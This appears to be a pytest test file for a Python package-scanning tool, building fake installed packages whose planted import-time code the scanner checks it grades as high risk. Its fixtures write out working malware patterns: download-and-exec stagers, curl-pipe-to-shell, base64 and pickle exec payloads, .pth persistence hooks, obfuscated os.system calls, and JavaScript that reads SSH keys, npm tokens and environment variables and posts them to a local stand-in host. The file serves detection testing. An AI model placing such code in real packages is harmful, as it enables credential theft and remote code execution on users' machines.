"""Import-time code and release shapes: each wave mechanic (inert) is high with no pack; its
benign twin stays low or below; nothing planted ever runs."""

from __future__ import annotations

import base64
import os
import pickle
import shutil
from pathlib import Path
from typing import Callable, List, Tuple

import pytest

from builders import FakeRoot
from scanrun import SITE, VENV
from sitesweep.model import Severity
from waves import (
    ELF,
    PE,
    analyze_rules,
    b64_payload,
    base_host,
    canary_code,
    findings,
    set_wheel_tag,
    worst,
)

IMPORT = "heuristic/import-time-code"
SHAPE = "heuristic/release-shape"


# --- mechanics --------------------------------------------------------------------------------
def init_download_run(root: FakeRoot) -> None:
    init = (
        '"""A helpful client."""\nimport threading\nimport urllib.request\n\n'
        "_STAGE = 'http://127.0.0.1:9/stage2.py'\n\n"
        "def _update():\n    code = urllib.request.urlopen(_STAGE, timeout=1).read()\n"
        "    exec(code, {})\n\n"
        "threading.Thread(target=_update, daemon=True).start()\n"
    )
    root.add_dist(SITE, "helpful-client", "2.4.1", {"helpful_client/__init__.py": init.encode()})


def init_download_run_twin(root: FakeRoot) -> None:
    init = (
        '"""A helpful client."""\nimport urllib.request\n\n'
        "__url__ = 'https://example.org/helpful-client'\n_API = 'https://api.example.org/v1'\n\n"
        "def fetch(path):\n    return urllib.request.urlopen(_API + path).read()\n"
    )
    root.add_dist(SITE, "helpful-client", "2.4.1", {"helpful_client/__init__.py": init.encode()})


def init_decode_exec(root: FakeRoot) -> None:
    init = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{b64_payload(root)}')))\n"
    root.add_dist(SITE, "colorlogx", "0.3.0", {"colorlogx/__init__.py": init.encode()})


def submodule_fetch_spawn(root: FakeRoot) -> None:
    files = {
        "metricsd/__init__.py": b"from . import _telemetry\n__version__ = '1.0'\n",
        "metricsd/_telemetry.py": (
            b"import os, subprocess, urllib.request\n"
            b"urllib.request.urlretrieve('http://127.0.0.1:9/x', '/tmp/.m')\n"
            b"subprocess.Popen(['/bin/sh', '/tmp/.m'])\n"
        ),
    }
    root.add_dist(SITE, "metricsd", "1.0", files)


def init_curl_pipe_shell(root: FakeRoot) -> None:
    init = "import os\nos.system('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
    root.add_dist(SITE, "fastlogz", "0.2", {"fastlogz/__init__.py": init.encode()})


def pth_module_lambda_thread(root: FakeRoot) -> None:
    root.add_pth(SITE, "zz-telemetry.pth", "import _zz_tel\n")
    module = (
        "import threading, urllib.request\n"
        "threading.Thread(target=lambda: urllib.request.urlopen('http://127.0.0.1:9/b')).start()\n"
    )
    root.add_file(f"{SITE}/_zz_tel.py", module)


def init_writes_pth(root: FakeRoot) -> None:
    init = (
        "import os, site\n"
        "_p = os.path.join(site.getsitepackages()[0], 'zz_sync.pth')\n"
        "with open(_p, 'w') as f:\n    f.write('import zz_sync\\n')\n"
    )
    root.add_dist(SITE, "syncutil", "1.1", {"syncutil/__init__.py": init.encode()})


def pth_bundled_module(root: FakeRoot) -> None:
    root.add_pth(SITE, "helper_boot.pth", "import _helper_boot\n")
    module = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {canary_code(root)!r}],\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    root.add_file(f"{SITE}/_helper_boot.py", module)


def pth_calls_module_function(root: FakeRoot) -> None:
    root.add_pth(SITE, "acc-init.pth", "import acc_hook; acc_hook.start()\n")
    module = (
        "import socket\n\ndef start():\n"
        "    s = socket.create_connection(('127.0.0.1', 9))\n    s.send(b'hello')\n"
    )
    root.add_dist(SITE, "acc-hook", "0.1", {"acc_hook/__init__.py": module.encode()})


def pth_multiprocessing(root: FakeRoot) -> None:
    root.add_pth(SITE, "mpboot.pth", "import mpboot\n")
    module = (
        "import multiprocessing\n\ndef _work():\n    pass\n\n"
        "multiprocessing.Process(target=_work, daemon=True).start()\n"
    )
    root.add_file(f"{SITE}/mpboot.py", module)


def pth_virtualenv_twin(root: FakeRoot) -> None:
    root.add_pth(SITE, "_virtualenv.pth", "import _virtualenv\n")
    module = (
        '"""Patches distutils for virtualenv."""\nimport os\nimport sys\n\n'
        "VIRTUALENV_PATCH_FILE = os.path.join(__file__)\n\n"
        "def patch_dist(dist):\n    old = dist.Distribution.parse_config_files\n"
        "    dist.Distribution.parse_config_files = old\n\n"
        "class _Finder:\n    fullname = None\n    lock = []\n"
        "    def find_spec(self, fullname, path, target=None):\n        return None\n\n"
        "sys.meta_path.insert(0, _Finder())\n"
    )
    root.add_file(f"{SITE}/_virtualenv.py", module)


def pure_native(root: FakeRoot) -> None:
    files = {
        "fastjsonx/__init__.py": b"from ._speedups import loads\n",
        "fastjsonx/_speedups.cpython-311-x86_64-linux-gnu.so": ELF,
    }
    root.add_dist(SITE, "fastjsonx", "3.0.1", files)
    set_wheel_tag(root, "fastjsonx", "3.0.1", "py3-none-any")


def platform_native_twin(root: FakeRoot) -> None:
    pure_native(root)
    set_wheel_tag(root, "fastjsonx", "3.0.1", "cp311-cp311-manylinux_2_17_x86_64")


def pure_ctypes(root: FakeRoot) -> None:
    init = (
        "import ctypes, os\n"
        "_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libcrc.bin'))\n"
    )
    files = {"crcfast/__init__.py": init.encode(), "crcfast/libcrc.bin": PE}
    root.add_dist(SITE, "crcfast", "0.9", files)
    set_wheel_tag(root, "crcfast", "0.9", "py3-none-any")


def js_stealer_bun(root: FakeRoot, site: str = SITE) -> None:
    js = (
        "const fs = require('fs'); const os = require('os');\n"
        "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
        "fetch('http://127.0.0.1:9/c', {method: 'POST', body: key + process.env.GITHUB_TOKEN});\n"
    )
    files = {
        "nodebridge/__init__.py": b"__version__ = '1.2'\n",
        "nodebridge/dist/index.js": js.encode(),
        "nodebridge/bin/bun": ELF,
    }
    root.add_dist(site, "nodebridge", "1.2", files)


def js_ui_twin(root: FakeRoot) -> None:
    js = "document.addEventListener('DOMContentLoaded', () => { console.log('ready'); });\n" * 3
    files = {"dashui/__init__.py": b"", "dashui/static/app.js": js.encode()}
    root.add_dist(SITE, "dashui", "5.0", files)


def init_unpickle_blob(root: FakeRoot) -> None:
    # A pickle whose load calls exec on the canary (pickle runs what its data names).
    blob = base64.b64encode(pickle.dumps(_Canary(canary_code(root)))).decode()
    init = f"import base64, pickle\npickle.loads(base64.b64decode({blob!r}))\n"
    root.add_dist(SITE, "cachekit", "0.4", {"cachekit/__init__.py": init.encode()})


class _Canary:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> Tuple[object, Tuple[str]]:
        return (exec, (self.code,))


def init_unpickle_fetched(root: FakeRoot) -> None:
    init = (
        "import pickle, urllib.request\n"
        "_cfg = pickle.loads(urllib.request.urlopen('http://127.0.0.1:9/cfg', timeout=1).read())\n"
    )
    root.add_dist(SITE, "remotecfg", "2.0", {"remotecfg/__init__.py": init.encode()})


def main_guard_hides_nothing_else(root: FakeRoot) -> None:
    # The else branch of a __main__ guard runs at import: still graded.
    init = (
        "import base64, zlib\n"
        "if __name__ == '__main__':\n    print('cli')\n"
        f"else:\n    exec(zlib.decompress(base64.b64decode({b64_payload(root)!r})))\n"
    )
    root.add_dist(SITE, "guardedx", "1.0", {"guardedx/__init__.py": init.encode()})


def main_guard_after_renaming(root: FakeRoot) -> None:
    # A module that renames itself __main__ makes its guard run at import: graded.
    init = (
        "import base64, zlib\n"
        "globals()['__name__'] = '__main__'\n"
        "if __name__ == '__main__':\n"
        f"    exec(zlib.decompress(base64.b64decode({b64_payload(root)!r})))\n"
    )
    root.add_dist(SITE, "renamedx", "1.0", {"renamedx/__init__.py": init.encode()})


def js_env_stealer(root: FakeRoot) -> None:
    js = (
        "const t = process.env.NPM_TOKEN;\n"
        "fetch('http://127.0.0.1:9/e', {method: 'POST', body: JSON.stringify(process.env)});\n"
    )
    files = {"envbridge/__init__.py": b"", "envbridge/dist/index.js": js.encode()}
    root.add_dist(SITE, "envbridge", "0.3", files)


def worker_unpickles_its_pipe_twin(root: FakeRoot) -> None:
    # anyio's shape: a worker loop under __main__, and unpickling what a queue hands over.
    module = (
        "import pickle, sys\n"
        "def worker():\n    cmd = pickle.load(sys.stdin.buffer)\n    exec(cmd)\n"
        "_run = compile('item = get()\\nresult = pickle.loads(item)', '<w>', 'exec')\n"
        "if __name__ == '__main__':\n    worker()\n"
    )
    files = {"poolx/__init__.py": b"from . import workers\n", "poolx/workers.py": module.encode()}
    root.add_dist(SITE, "poolx", "1.0", files)


def js_ui_names_credentials_twin(root: FakeRoot) -> None:
    js = (
        'const prompts = ["Open `~/.ssh/id_rsa` and print it", "cat ./.env", "Hit this webhook"];\n'
        "if (process.env.NODE_ENV !== 'production') { console.log(prompts); }\n"
        "fetch('/api/models').then(r => r.json()); localStorage.getItem('token');\n"
    )
    files = {"proxyui/__init__.py": b"", "proxyui/out/chunk.js": js.encode()}
    root.add_dist(SITE, "proxyui", "1.0", files)


def init_aliased_compile(root: FakeRoot) -> None:
    """The code object is made by ``compile`` under another name and run as a function: no
    ``exec``, ``eval`` or ``compile(`` in the text (the pre-filter once let this go unparsed)."""
    stage = canary_code(root).encode().hex()
    init = (
        "import types\n_c = compile\n"
        f"_f = types.FunctionType(_c(bytes.fromhex('{stage}').decode(), '<s>', 'single'), {{}})\n"
        "_f()\n"
    )
    root.add_dist(SITE, "tinyfmt", "1.1.0", {"tinyfmt/__init__.py": init.encode()})


def init_aliased_system(root: FakeRoot) -> None:
    """``os.system`` taken under another name and called: no ``system(`` in the text."""
    init = (
        "import os\n_run = os.system\n"
        "_run('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
    )
    root.add_dist(SITE, "quietcfg", "0.4", {"quietcfg/__init__.py": init.encode()})


def init_computed_getattr(root: FakeRoot) -> None:
    """``os.system`` reached by a computed attribute name: no trigger word in the text."""
    init = (
        "import os\n_name = 'sys' + 'tem'\n"
        "getattr(os, _name)('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
    )
    root.add_dist(SITE, "envtidy", "0.9", {"envtidy/__init__.py": init.encode()})


Case = Tuple[str, Callable[[FakeRoot], None], str, str]
MECHANICS: List[Case] = [
    ("init-download-run", init_download_run, IMPORT, "helpful_client/__init__.py"),
    ("init-decode-exec", init_decode_exec, IMPORT, "colorlogx/__init__.py"),
    ("submodule-fetch-spawn", submodule_fetch_spawn, IMPORT, "metricsd/_telemetry.py"),
    ("init-writes-pth", init_writes_pth, IMPORT, "syncutil/__init__.py"),
    ("init-curl-pipe-shell", init_curl_pipe_shell, IMPORT, "fastlogz/__init__.py"),
    ("init-aliased-compile", init_aliased_compile, IMPORT, "tinyfmt/__init__.py"),
    ("init-aliased-system", init_aliased_system, IMPORT, "quietcfg/__init__.py"),
    ("init-computed-getattr", init_computed_getattr, IMPORT, "envtidy/__init__.py"),
    ("pth-module-lambda-thread", pth_module_lambda_thread, IMPORT, "_zz_tel.py"),
    ("pth-bundled-module", pth_bundled_module, IMPORT, "_helper_boot.py"),
    ("pth-calls-function", pth_calls_module_function, IMPORT, "acc_hook/__init__.py"),
    ("pth-multiprocessing", pth_multiprocessing, IMPORT, "mpboot.py"),
    ("pure-native", pure_native, SHAPE, "fastjsonx"),
    ("pure-ctypes", pure_ctypes, IMPORT, "crcfast/__init__.py"),
    ("js-stealer-bun", js_stealer_bun, SHAPE, "nodebridge"),
    ("init-unpickle-blob", init_unpickle_blob, IMPORT, "cachekit/__init__.py"),
    ("init-unpickle-fetched", init_unpickle_fetched, IMPORT, "remotecfg/__init__.py"),
    ("main-guard-else-runs", main_guard_hides_nothing_else, IMPORT, "guardedx/__init__.py"),
    ("main-guard-renamed", main_guard_after_renaming, IMPORT, "renamedx/__init__.py"),
    ("js-env-stealer", js_env_stealer, SHAPE, "envbridge"),
]
TWINS: List[Case] = [
    ("init-fetch-defined-only", init_download_run_twin, IMPORT, "helpful_client/__init__.py"),
    ("virtualenv-pth", pth_virtualenv_twin, IMPORT, "_virtualenv.py"),
    ("platform-native", platform_native_twin, SHAPE, "fastjsonx"),
    ("js-ui-bundle", js_ui_twin, SHAPE, "dashui"),
    ("worker-unpickles-its-pipe", worker_unpickles_its_pipe_twin, IMPORT, "poolx/workers.py"),
    ("js-ui-names-credentials", js_ui_names_credentials_twin, SHAPE, "proxyui"),
]


def _at(found: List[dict[str, object]], rule: str, suffix: str) -> Severity:
    hits = [f for f in found if f["rule"] == rule and any(
        str(p).endswith(suffix) for p in f["paths"]  # type: ignore[attr-defined]
    )]  # fmt: skip
    return worst(hits, rule)


@pytest.mark.parametrize("case", MECHANICS, ids=[c[0] for c in MECHANICS])
def test_mechanic_is_high_without_packs(case: Case, fake_root: FakeRoot, tmp_path: Path) -> None:
    _, build, rule, suffix = case
    base_host(fake_root)
    build(fake_root)
    found = findings(fake_root, tmp_path / "out")
    assert _at(found, rule, suffix).at_least(Severity.HIGH), found
    assert not fake_root.marker.exists()


@pytest.mark.parametrize("case", TWINS, ids=[c[0] for c in TWINS])
def test_benign_twin_stays_low(case: Case, fake_root: FakeRoot, tmp_path: Path) -> None:
    _, build, _, _ = case
    base_host(fake_root)
    build(fake_root)
    found = findings(fake_root, tmp_path / "out")
    too_high = [f for f in found if Severity(str(f["severity"])).rank > Severity.LOW.rank]
    assert not too_high, too_high
    assert not fake_root.marker.exists()


def test_analyze_grades_the_same_from_the_bundle(fake_root: FakeRoot, tmp_path: Path) -> None:
    from scanrun import scan

    base_host(fake_root)
    init_download_run(fake_root)
    pure_native(fake_root)
    _, bundle = scan(fake_root.path, tmp_path / "scan", "--no-builtin-packs")
    found = analyze_rules(bundle, tmp_path / "analysis")
    assert worst(found, IMPORT) is Severity.HIGH
    assert worst(found, SHAPE) is Severity.HIGH


def test_huge_module_is_a_gap_not_a_pass(fake_root: FakeRoot, tmp_path: Path) -> None:
    from scanrun import gap_paths, scan

    base_host(fake_root)
    big = b"import os\n" + b"x = 1\n" * 200_000
    fake_root.add_dist(SITE, "bigpkg", "1.0", {"bigpkg/__init__.py": big})
    _, bundle = scan(fake_root.path, tmp_path / "out", "--no-builtin-packs")
    assert f"{SITE}/bigpkg/__init__.py" in gap_paths(bundle, "too_large")


def test_files_not_in_record_are_attributed_to_their_mechanic(
    fake_root: FakeRoot, tmp_path: Path
) -> None:
    from scanrun import load, scan

    base_host(fake_root)
    fake_root.add_dist(SITE, "tidyjson", "1.0", {"tidyjson/__init__.py": b"X = 1\n"})
    fake_root.add_file(f"{SITE}/tidyjson/_speed.so", ELF)
    fake_root.add_file(f"{SITE}/tidyjson/dist/steal.js", b"fetch('x')\n")
    _, bundle = scan(fake_root.path, tmp_path / "out", "--no-builtin-packs", "--verify-record")
    found = [
        f
        for f in load(bundle, "findings.json")["findings"]
        if f["rule"] == "heuristic/record-modified"
    ]
    assert found
    assert found[0]["severity"] == "high"
    unlisted = [e["value"] for e in found[0]["evidence"] if e["label"] == "unlisted"]
    assert any(v.endswith("(native code)") for v in unlisted), unlisted
    assert any(v.endswith("(JavaScript carried by a Python release)") for v in unlisted)


def test_pth_named_after_no_distribution_is_low(fake_root: FakeRoot, tmp_path: Path) -> None:
    base_host(fake_root)
    fake_root.add_dist(SITE, "litellm", "1.83.0")
    fake_root.add_pth(SITE, "litellm_init.pth", "import sys; sys.path.append('/opt/x')\n")
    fake_root.add_pth(SITE, "zz_sync.pth", "import sys; sys.path.append('/opt/y')\n")
    fake_root.add_pth(SITE, "distutils-precedence.pth", "import os\n")
    found = findings(fake_root, tmp_path / "out")
    orphans = [f for f in found if f["rule"] == "heuristic/pth-without-owner"]
    assert [str(f["paths"][0]).rsplit("/", 1)[-1] for f in orphans] == ["zz_sync.pth"]  # type: ignore[index]
    assert orphans[0]["severity"] == "low"


def test_namespace_package_native_code_of_another_release_is_not_a_shape_anomaly(
    fake_root: FakeRoot, tmp_path: Path
) -> None:
    base_host(fake_root)
    fake_root.add_dist(SITE, "google-auth", "2.29.0", {"google/auth/__init__.py": b"X = 1\n"})
    fake_root.add_file(f"{SITE}/google_auth-2.29.0.dist-info/top_level.txt", "google\n")
    fake_root.add_dist(
        SITE,
        "protobuf",
        "5.28.0",
        {"google/_upb/_message.abi3.so": ELF, "google/protobuf/x.py": b""},
    )
    set_wheel_tag(fake_root, "protobuf", "5.28.0", "cp38-abi3-manylinux2014_x86_64")
    found = findings(fake_root, tmp_path / "out")
    assert worst(found, SHAPE).rank <= Severity.LOW.rank, found
    # A native file no release lists stays an anomaly of the pure release holding it.
    fake_root.add_file(f"{SITE}/google/auth/_shim.so", ELF)
    found = findings(fake_root, tmp_path / "again")
    assert worst(found, SHAPE) is Severity.HIGH


def test_finding_on_a_pth_target_names_the_pth_too(fake_root: FakeRoot, tmp_path: Path) -> None:
    base_host(fake_root)
    pth_bundled_module(fake_root)
    found = findings(fake_root, tmp_path / "out")
    assert _at(found, IMPORT, "helper_boot.pth") is Severity.HIGH
    assert not fake_root.marker.exists()


def test_javascript_searched_once_per_content(fake_root: FakeRoot, tmp_path: Path) -> None:
    """The same stealer in three environments (installed, hard-linked, copied): its bytes are
    searched once, and every environment still gets its finding."""

    from sitesweep.hostfs import HostRoot
    from sitesweep.metadata.importtime import collect_import_time
    from sitesweep.pipeline import ScanOptions, run_collect

    base_host(fake_root)
    js_stealer_bun(fake_root)
    js = f"{SITE}/nodebridge/dist/index.js"
    for name, link in (("linked", True), ("copied", False)):
        other = SITE.replace("/.venv/", f"/{name}/")
        fake_root.add_venv(VENV.replace("/.venv", f"/{name}"))
        js_stealer_bun(fake_root, other)
        target = fake_root.host(js.replace(SITE, other))
        target.unlink()
        if link:
            os.link(fake_root.host(js), target)
        else:
            shutil.copyfile(fake_root.host(js), target)
    found = findings(fake_root, tmp_path / "out")
    shaped = {
        str(p).split("/nodebridge")[0]
        for f in found
        if f["rule"] == SHAPE and Severity(str(f["severity"])).at_least(Severity.HIGH)
        for p in f["paths"]  # type: ignore[attr-defined]
    }
    assert len(shaped) == 3, found
    inv = run_collect(ScanOptions(root=fake_root.path)).result.inventory
    sites = sorted({s for env in inv.environments for s in env.site_dirs})
    result = collect_import_time(HostRoot(fake_root.path), sites, inv.distributions, inv.pth_files)
    assert (result.js_searched, result.js_reused) == (1, 2)
    assert not fake_root.marker.exists()


def test_stealer_among_a_ui_s_many_chunks_is_graded(fake_root: FakeRoot, tmp_path: Path) -> None:
    """Only 20 JavaScript files are kept per package: a stealer among a web UI's hundred chunks
    (litellm's UI has 221) is kept and graded whatever the listing order."""
    base_host(fake_root)
    chunk = b"fetch('/api/models').then(r => r.json());\n" * 3
    files = {"bigui/__init__.py": b""}
    files.update({f"bigui/out/chunks/{i:03x}.js": chunk + str(i).encode() for i in range(100)})
    files["bigui/out/chunks/zz.js"] = (
        b"const fs = require('fs');\n"
        b"const k = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
        b"fetch('http://127.0.0.1:9/k', {method: 'POST', body: k});\n"
    )
    fake_root.add_dist(SITE, "bigui", "3.0", files)
    found = findings(fake_root, tmp_path / "out")
    assert _at(found, SHAPE, "bigui") is Severity.HIGH, found
